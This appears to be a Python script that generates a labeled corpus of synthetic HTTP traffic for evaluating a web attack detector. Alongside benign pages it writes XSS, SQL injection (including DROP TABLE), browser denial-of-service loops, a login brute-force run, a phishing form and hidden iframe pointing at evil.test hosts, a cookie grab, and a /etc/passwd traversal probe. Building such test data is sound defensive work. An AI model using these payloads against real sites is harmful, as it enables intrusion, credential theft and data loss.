#!/usr/bin/env python3
"""Writes the labeled evaluation corpus under corpus/.

Each output line is a capture entry (ts, session, dir, data_b64) plus a
`label` and, where several entries form one attack, an `incident` id.
Output is deterministic.
"""

import argparse
import base64
import gzip
import json
import os

BASE_TS = 1700000000.0

TABLE2 = [
    ("img", "src"), ("a", "href"), ("anchor", "href"), ("input", "type"),
    ("meta", "name"), ("meta", "content"), ("div", "align"), ("div", "class"),
    ("body", "bgcolor"), ("body", "background"), ("body", "leftmargin"),
    ("iframe", "align"), ("iframe", "src"),
]


def request(method, uri, headers=(), body=b""):
    lines = [f"{method} {uri} HTTP/1.1", "Host: shop.example.test",
             "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/115.0",
             "Accept: text/html,application/xhtml+xml,*/*;q=0.8",
             "Accept-Language: en-us", "Connection: keep-alive"]
    lines += list(headers)
    if body:
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def response(status, reason, body=b"", ctype="text/html; charset=utf-8", gz=False, extra=()):
    if gz:
        body = gzip.compress(body, mtime=0)
    lines = [f"HTTP/1.1 {status} {reason}", "Server: Apache/2.4.57",
             "Date: Tue, 14 Nov 2023 22:13:20 GMT", f"Content-Type: {ctype}"]
    if gz:
        lines.append("Content-Encoding: gzip")
    lines += list(extra)
    lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


def page(body_attrs="", content="<p>Welcome back.</p>", head=""):
    return (
        "<!DOCTYPE html>\n<html><head><title>Example Shop</title>"
        '<meta name="description" content="Example shop front page">'
        f"{head}</head>\n<body{body_attrs}>\n{content}\n</body></html>\n"
    ).encode()


BENIGN_CONTENT = """<div class="nav" align="center">
<a href="/">Home</a> | <a href="/catalog?page=2">Catalog</a> | <a href="/about">About</a>
</div>
<img src="/static/logo.png" alt="logo" width="120" height="40">
<form action="/search" method="get"><input type="text" name="q"><input type="submit" value="Go"></form>
<iframe src="/embed/map" align="left" width="300" height="200"></iframe>
<button onclick="toggle('menu')">Menu</button>
<script>
function toggle(id) {
  var el = document.getElementById(id);
  el.style.display = el.style.display === 'none' ? 'block' : 'none';
}
for (var i = 0; i < 10; i++) { console.log('tick ' + i); }
var note = 'Sign in or register to continue';
</script>
<style>body { font-family: sans-serif; }</style>"""

PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"


class Writer:
    def __init__(self, path):
        self.path = path
        self.lines = []

    def add(self, ts, session, direction, data, label, incident=None):
        rec = {
            "ts": round(BASE_TS + ts, 3),
            "session": session,
            "dir": direction,
            "data_b64": base64.b64encode(data).decode(),
            "label": label,
        }
        if incident is not None:
            rec["incident"] = incident
        self.lines.append(json.dumps(rec, sort_keys=True))

    def pair(self, ts, session, req, resp, label, incident):
        self.add(ts, session, "req", req, label, incident)
        self.add(ts + 0.05, session, "resp", resp, label, incident)

    def save(self):
        with open(self.path, "w", encoding="ascii") as f:
            f.write("\n".join(self.lines) + "\n")


def xss_markup(tag, attr, payload):
    """Page with `javascript:` placed in the given tag/attribute slot."""
    if tag == "body":
        return page(body_attrs=f' {attr}="{payload}"', content="<p>Guestbook</p>")
    if tag == "meta":
        other = "content" if attr == "name" else "name"
        head = f'<meta {other}="keywords" {attr}="{payload}">'
        return page(head=head, content="<p>Guestbook</p>")
    if tag in ("img", "input"):
        return page(content=f'<p>Guestbook</p><{tag} {attr}="{payload}">')
    return page(content=f'<p>Guestbook</p><{tag} {attr}="{payload}">entry</{tag}>')


def write_benign(out):
    w = Writer(os.path.join(out, "benign.jsonl"))
    t = 0.0
    for s in range(10):
        session = f"benign-{s}"
        inc = f"b{s}"
        w.pair(t, session, request("GET", "/"), response(200, "OK", page(content=BENIGN_CONTENT)), "benign", inc + "-1")
        w.pair(t + 0.4, session, request("GET", "/static/logo.png", ["Accept: image/png"]),
               response(200, "OK", PNG_BYTES, ctype="image/png"), "benign", inc + "-2")
        w.pair(t + 3.0, session, request("GET", "/catalog?page=2", ["Accept-Encoding: gzip"]),
               response(200, "OK", page(content=BENIGN_CONTENT), gz=True), "benign", inc + "-3")
        form = b"user=alice&pass=wrong"
        w.pair(t + 9.0, session,
               request("POST", "/login", ["Content-Type: application/x-www-form-urlencoded"], form),
               response(401, "Unauthorized", page(content="<p>Please try again.</p>")), "benign", inc + "-4")
        w.pair(t + 15.0, session,
               request("POST", "/login", ["Content-Type: application/x-www-form-urlencoded"], b"user=alice&pass=right"),
               response(302, "Found", b"", extra=["Location: /account"]), "benign", inc + "-5")
        t += 120.0
    w.save()


def write_xss(out):
    w = Writer(os.path.join(out, "xss.jsonl"))
    for i, (tag, attr) in enumerate(TABLE2):
        payload = "javascript:alert(document.domain)" if i % 2 else " JaVaScRiPt:location.assign(evil)"
        body = xss_markup(tag, attr, payload)
        w.pair(60.0 * i, f"xss-{i}", request("GET", f"/guestbook?entry={i}"),
               response(200, "OK", body, gz=(i == 3)), "xss", f"x{i}")
    w.save()


def write_sqli(out):
    w = Writer(os.path.join(out, "sqli.jsonl"))
    uris = ["/item?id=1'%20OR%20'1'='1", "/item?id=1%27+or+1=1--", "/search?q=x'%20UNION%20SELECT%20user,pass%20FROM%20users--",
            "/login?user=admin'%20or%20'a'='a"]
    for i, uri in enumerate(uris):
        w.pair(30.0 * i, f"sqli-req-{i}", request("GET", uri), response(500, "Internal Server Error", page(content="<p>error</p>")),
               "sqli", f"sr{i}")
    scripts = [
        "var q = \"SELECT * FROM users WHERE name='\" + u + \"' or '1'='1'\";",
        "var q = \"SELECT id FROM items UNION SELECT password FROM users\";",
        "db.run(\"SELECT * FROM accounts WHERE user='admin'--'\");",
        "var q = \"x'; DROP TABLE users; --\"; send(q);",
    ]
    for i, src in enumerate(scripts):
        body = page(content=f"<p>Report</p><script>{src}</script>")
        w.pair(200.0 + 30.0 * i, f"sqli-page-{i}", request("GET", f"/report/{i}"), response(200, "OK", body), "sqli", f"sp{i}")
    w.save()


def write_dos(out):
    w = Writer(os.path.join(out, "dos.jsonl"))
    loops = [
        "while (true) { window.open(location.href); }",
        "for (;;) { document.body.innerHTML += 'x'; }",
        "for (var i = 0; i < 1000000000; i++) { arr.push(new Array(1000)); }",
        "while(1){alert('hi')}",
    ]
    for i, src in enumerate(loops):
        body = page(content=f"<p>Offer</p><script>{src}</script>")
        w.pair(30.0 * i, f"dos-loop-{i}", request("GET", f"/offer/{i}"), response(200, "OK", body), "dos", f"dl{i}")
    # request flood from one client: 180 requests in 10 s
    n = 180
    for i in range(n):
        ts = 500.0 + 10.0 * i / (n - 1)
        w.add(ts, "flood-1", "req", request("GET", f"/catalog?page={i % 7}"), "dos", "flood")
    w.save()


def write_brute_force(out):
    w = Writer(os.path.join(out, "brute_force.jsonl"))
    n = 30
    for i in range(n):
        ts = 5.0 * i / (n - 1)
        form = f"user=admin&pass=guess{i:03d}".encode()
        w.add(ts, "bf-1", "req", request("POST", "/login", ["Content-Type: application/x-www-form-urlencoded"], form),
              "brute_force", "bf")
        w.add(ts + 0.001, "bf-1", "resp", response(401, "Unauthorized", page(content="<p>login failed</p>")),
              "brute_force", "bf")
    w.save()


def write_rule_hits(out):
    w = Writer(os.path.join(out, "injected.jsonl"))
    hidden = '<iframe src="http://ads.evil.test/x" width="0" height="0" frameborder="0"></iframe>'
    cookie = "<script>var c = document.cookie; window.name = c;</script>"
    form = '<form action="https://collect.evil.test/login" method="post"><input type="password" name="p"></form>'
    packed = "<script>eval(unescape('%61%6c%65%72%74%28%31%29'));</script>"
    pages = [
        hidden + cookie + form,
        cookie + packed + form,
        hidden * 4,
        packed,
    ]
    for i, content in enumerate(pages):
        w.pair(40.0 * i, f"inj-{i}", request("GET", f"/news/{i}"), response(200, "OK", page(content=content)),
               "injected-content", f"ic{i}")
    w.pair(300.0, "probe-0", request("GET", "/static/../../../../etc/passwd"), response(404, "Not Found", b""),
           "probe", "p0")
    w.pair(340.0, "probe-1", request("GET", "/", ["X-Scan: 1"]).replace(b"Firefox/115.0", b"sqlmap/1.7.2#stable"),
           response(200, "OK", page(content="<p>hi</p>")), "probe", "p1")
    w.pair(380.0, "probe-2", request("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
           response(200, "OK", page(content="<p>no results</p>")), "probe", "p2")
    w.save()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--out", default=os.path.join(os.path.dirname(__file__), "..", "corpus"))
    args = ap.parse_args()
    os.makedirs(args.out, exist_ok=True)
    for fn in (write_benign, write_xss, write_sqli, write_dos, write_brute_force, write_rule_hits):
        fn(args.out)


if __name__ == "__main__":
    main()
